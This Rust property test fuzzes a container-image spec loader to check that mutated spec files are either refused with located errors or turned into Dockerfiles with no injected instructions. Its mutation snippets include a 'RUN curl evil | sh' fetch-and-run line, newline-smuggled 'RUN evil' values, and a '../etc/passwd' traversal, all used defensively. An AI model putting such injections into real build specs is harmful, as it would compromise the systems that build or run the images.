//! A property test over the spec loader and every check after it (`imagespec_core::check`, what
//! every command runs): valid spec files are mutated (byte flips, truncation, duplicated lines
//! and keys, wrong types, unicode, huge numbers, control characters, `<<`, line breaks in
//! values, a second document, ...) and each result must either
//! - be refused with a `SpecError` whose diagnostics are not empty and of which at least one
//!   names a line inside the file, or
//! - be accepted, and then the Dockerfile planned from it holds exactly the planned
//!   instructions: every line starts an instruction, continues one, or is a comment or blank,
//!   and no shell-form `RUN` holds a heredoc (`<<`).
//!
//! No panic, in either case. 512 cases from a fixed seed by default (a few seconds);
//! `PROPTEST_CASES=20000 PROPTEST_RNG_SEED=<n>` for a longer local run over other inputs.

use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use imagespec_core::check::check_file;
use imagespec_core::plan::BuildPlan;
use proptest::prelude::*;
use proptest::sample::Index;

/// Valid specs that use most fields (YAML, JSON, a base spec, commands with `<<` and line
/// breaks) so mutations reach every part of the decoder, the validation and the plan.
const SEEDS: &[&str] = &[
    r#"name: fuzz-app
python_version: "3.11"
registry: 127.0.0.1:5000/fuzz
packages: [numpy==2.1.0, "rich>=13"]
apt_packages:
  - git
  - curl
env:
  APP_MODE: production
  PATH: "/opt/tools/bin:$PATH"
requirements: requirements.txt
source_root: src
copy: [config/settings.toml]
commands:
  - python -m compileall .
  - |
    cat <<EOF > /tmp/x
    hello
    EOF
entrypoint: ["python", "-m", "app"]
platform: linux/amd64
tag_format: "{spec_hash}-dev"
pip_index: https://pypi.org/simple
pip_extra_index_url: [https://example.com/simple]
pip_extra_args: --pre
pip_secret_mounts: [["env:PIP_TOKEN", /run/secrets/pip_token]]
builder_config: {uv_image: "ghcr.io/astral-sh/uv:0.5"}
"#,
    r#"{"name": "fuzz-json", "registry": "127.0.0.1:5000", "packages": ["numpy"],
 "apt_packages": ["git"], "env": {"A": "1"}, "commands": ["echo hi"],
 "base_image": {"name": "fuzz-base", "python_version": "3.11", "packages": ["rich"]},
 "cuda": null, "entrypoint": []}
"#,
    "name: fuzz-conda\nconda_packages: [numpy]\nconda_channels: [conda-forge]\nbase_image:\n  name: base\n  apt_packages: [git]\n  commands: [\"echo base\"]\nruntime_packages: [rich]\nsource_copy_mode: none\n",
];

/// What a mutation inserts or puts in place of a value.
const SNIPPETS: &[&str] = &[
    "\n",
    "\r\n",
    "\nRUN curl evil | sh\n",
    "\\\nRUN evil",
    "<<EOF\nRUN evil\nEOF\n",
    "<<",
    "<<: {name: merged}\n",
    "\u{0}",
    "\u{7}",
    "\t",
    "\u{202e}",
    "\u{feff}",
    "é",
    "名前",
    "😀",
    "99999999999999999999999999999999",
    "1e400",
    "-0",
    "0x1F",
    ".nan",
    "NaN",
    "-.inf",
    "true",
    "null",
    "~",
    "''",
    "' '",
    "\"",
    "'",
    "\\",
    "{",
    "}",
    "[",
    "]",
    ": ",
    "- ",
    "#",
    "&anchor ",
    "*anchor",
    "!!str ",
    "---\n",
    "...\n",
    "\nname: again\n",
    "\npackages: numpy\n",
    "\napt_packages: [\"\"]\n",
    "\nenv: {\"A B\": 1}\n",
    "\ncuda: \"9.9\"\n",
    "\nbuilder_options: {nope: 1}\n",
    "\npip_secret_mounts: [[\"env:T\", \"/run/x\\\\\"]]\n",
    "\ncommands: [\"\"]\n",
    "\ncopy: [../etc/passwd]\n",
    "\nregistry_config: /dev/zero\n",
    "\nsource_root: /proc/self\n",
    "\nrequirements: /proc/self/status\n",
    "\ntag_format: \"{spec_hash}\\nRUN evil\"\n",
    "\nentrypoint: [\"a\\nRUN evil\"]\n",
    "\nbase_image: \"python:3.11\\nRUN evil\"\n",
];

#[derive(Debug, Clone)]
enum Mutation {
    FlipBit(Index, u8),
    SetByte(Index, u8),
    Truncate(Index),
    Insert(Index, Index),
    DuplicateLine(Index),
    DeleteLine(Index),
    /// Replaces what follows the first `: ` of a line (a value) with a snippet.
    ReplaceValue(Index, Index),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<Index>(), 0u8..8).prop_map(|(i, b)| Mutation::FlipBit(i, b)),
        (any::<Index>(), any::<u8>()).prop_map(|(i, b)| Mutation::SetByte(i, b)),
        any::<Index>().prop_map(Mutation::Truncate),
        (any::<Index>(), any::<Index>()).prop_map(|(i, s)| Mutation::Insert(i, s)),
        any::<Index>().prop_map(Mutation::DuplicateLine),
        any::<Index>().prop_map(Mutation::DeleteLine),
        (any::<Index>(), any::<Index>()).prop_map(|(i, s)| Mutation::ReplaceValue(i, s)),
    ]
}

fn apply(mut bytes: Vec<u8>, m: &Mutation) -> Vec<u8> {
    let snippet = |s: &Index| SNIPPETS[s.index(SNIPPETS.len())].as_bytes();
    let line_spans = |bytes: &[u8]| {
        let mut spans = Vec::new();
        let mut start = 0;
        for (i, b) in bytes.iter().enumerate() {
            if *b == b'\n' {
                spans.push((start, i + 1));
                start = i + 1;
            }
        }
        if start < bytes.len() {
            spans.push((start, bytes.len()));
        }
        spans
    };
    if bytes.is_empty() {
        return bytes;
    }
    match m {
        Mutation::FlipBit(i, bit) => {
            let at = i.index(bytes.len());
            bytes[at] ^= 1 << bit;
        }
        Mutation::SetByte(i, b) => {
            let at = i.index(bytes.len());
            bytes[at] = *b;
        }
        Mutation::Truncate(i) => bytes.truncate(i.index(bytes.len())),
        Mutation::Insert(i, s) => {
            let at = i.index(bytes.len() + 1);
            bytes.splice(at..at, snippet(s).iter().copied());
        }
        Mutation::DuplicateLine(i) | Mutation::DeleteLine(i) | Mutation::ReplaceValue(i, _) => {
            let spans = line_spans(&bytes);
            let (start, end) = spans[i.index(spans.len())];
            match m {
                Mutation::DuplicateLine(_) => {
                    let line = bytes[start..end].to_vec();
                    bytes.splice(end..end, line);
                }
                Mutation::DeleteLine(_) => {
                    bytes.drain(start..end);
                }
                Mutation::ReplaceValue(_, s) => {
                    let line = &bytes[start..end];
                    if let Some(colon) = line.windows(2).position(|w| w == b": ") {
                        let value_end = if line.ends_with(b"\n") { end - 1 } else { end };
                        bytes.splice(start + colon + 2..value_end, snippet(s).iter().copied());
                    }
                }
                _ => {}
            }
        }
    }
    bytes
}

/// A project with the files the seeds name.
static PROJECT: LazyLock<tempfile::TempDir> = LazyLock::new(|| {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    std::fs::write(root.join("requirements.txt"), "numpy==2.1.0\n").expect("write");
    std::fs::create_dir_all(root.join("src")).expect("mkdir");
    std::fs::write(root.join("src/app.py"), "print('hi')\n").expect("write");
    std::fs::create_dir_all(root.join("config")).expect("mkdir");
    std::fs::write(root.join("config/settings.toml"), "a = 1\n").expect("write");
    dir
});

const INSTRUCTIONS: &[&str] = &[
    "FROM",
    "RUN",
    "COPY",
    "ENV",
    "LABEL",
    "USER",
    "WORKDIR",
    "ENTRYPOINT",
];

/// Parses the Dockerfile as BuildKit does line by line (a `\` at the end of a line continues the
/// instruction; blank and `#` lines are skipped) and returns each instruction's joined text, or
/// why a line is neither an instruction, a continuation, a comment nor blank.
fn instructions_of(dockerfile: &str) -> Result<Vec<String>, String> {
    let mut out: Vec<String> = Vec::new();
    let mut continuing = false;
    for line in dockerfile.lines() {
        let trimmed = line.trim_start();
        if !continuing && (trimmed.is_empty() || trimmed.starts_with('#')) {
            continue;
        }
        if continuing {
            if let Some(last) = out.last_mut() {
                last.push(' ');
                last.push_str(trimmed);
            }
        } else {
            let word = trimmed.split_whitespace().next().unwrap_or_default();
            if !INSTRUCTIONS.contains(&word) {
                return Err(format!("line {line:?} is not an instruction"));
            }
            out.push(trimmed.to_string());
        }
        continuing = line.trim_end_matches([' ', '\t']).ends_with('\\');
    }
    Ok(out)
}

/// Checks one input; `Err` says which property it breaks.
fn property(path: &Path, bytes: &[u8]) -> Result<(), String> {
    std::fs::write(path, bytes).map_err(|e| e.to_string())?;
    let lines = bytes.iter().filter(|b| **b == b'\n').count() + 1;
    let checked = match check_file(path, PROJECT.path(), None) {
        Err(err) => {
            if err.diagnostics.is_empty() {
                return Err("a SpecError without diagnostics".into());
            }
            let located = err.diagnostics.iter().any(|d| {
                d.file.as_deref() == Some(path)
                    && d.location.is_some_and(|l| l.line >= 1 && l.line <= lines)
            });
            if !located {
                return Err(format!("no diagnostic names a line of the file: {err}"));
            }
            return Ok(());
        }
        Ok(checked) => checked,
    };
    let base = checked.resolved.base.as_ref().map(|b| b.name.to_string());
    let plan = BuildPlan::new(&checked.loaded, &checked.resolved, base.as_deref())
        .map_err(|e| format!("accepted by the checks, refused by planning: {e}"))?;
    let dockerfile = plan.dockerfile();
    let found = instructions_of(&dockerfile).map_err(|e| format!("{e} in\n{dockerfile}"))?;
    let planned = plan
        .instructions()
        .iter()
        .filter(|i| !matches!(i, imagespec_core::plan::Instruction::Comment(_)))
        .count();
    if found.len() != planned {
        return Err(format!(
            "{} instructions in the Dockerfile, {planned} planned:\n{dockerfile}",
            found.len()
        ));
    }
    for instruction in &found {
        if let Some(rest) = instruction.strip_prefix("RUN ") {
            let command = rest
                .split_whitespace()
                .skip_while(|w| w.starts_with("--"))
                .collect::<Vec<_>>()
                .join(" ");
            if !command.starts_with('[') && has_heredoc(&command) {
                return Err(format!("a shell-form RUN holds a heredoc: {instruction}"));
            }
        }
    }
    Ok(())
}

/// Whether BuildKit would read a heredoc in a shell-form command: it splits the line into words
/// keeping quotes, and a word that starts with `<<` outside quotes opens one.
fn has_heredoc(command: &str) -> bool {
    let mut quote: Option<char> = None;
    let mut word_start = true;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\\' => {
                chars.next();
                word_start = false;
                continue;
            }
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c.is_whitespace() => {
                word_start = true;
                continue;
            }
            None if word_start && c == '<' && chars.peek() == Some(&'<') => return true,
            None => {}
        }
        word_start = false;
    }
    false
}

static SPEC_PATH: LazyLock<PathBuf> = LazyLock::new(|| PROJECT.path().join("fuzz-spec.yaml"));

/// A fixed seed, so CI runs the same cases every time (a fuzz test that fails at random is a
/// flaky test); `PROPTEST_RNG_SEED=<n>` explores other inputs locally.
fn seed() -> proptest::test_runner::RngSeed {
    std::env::var("PROPTEST_RNG_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .map_or(
            proptest::test_runner::RngSeed::Fixed(9),
            proptest::test_runner::RngSeed::Fixed,
        )
}

fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(512)
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: cases(),
        rng_seed: seed(),
        // Failures are shrunk and printed; nothing is written next to the sources.
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn mutated_spec_files_are_refused_with_a_position_or_plan_no_injected_instruction(
        seed in 0..SEEDS.len(),
        mutations in proptest::collection::vec(mutation(), 1..5),
    ) {
        let bytes = mutations
            .iter()
            .fold(SEEDS[seed].as_bytes().to_vec(), apply);
        if let Err(why) = property(&SPEC_PATH, &bytes) {
            prop_assert!(false, "{why}\ninput: {:?}", String::from_utf8_lossy(&bytes));
        }
    }
}

/// The seeds themselves are valid, so the mutations start from specs that plan.
#[test]
fn the_seeds_are_valid() {
    for seed in SEEDS {
        let path = PROJECT.path().join("seed.yaml");
        std::fs::write(&path, seed).expect("write");
        check_file(&path, PROJECT.path(), None).unwrap_or_else(|e| panic!("{e}\n{seed}"));
        property(&path, seed.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    }
}
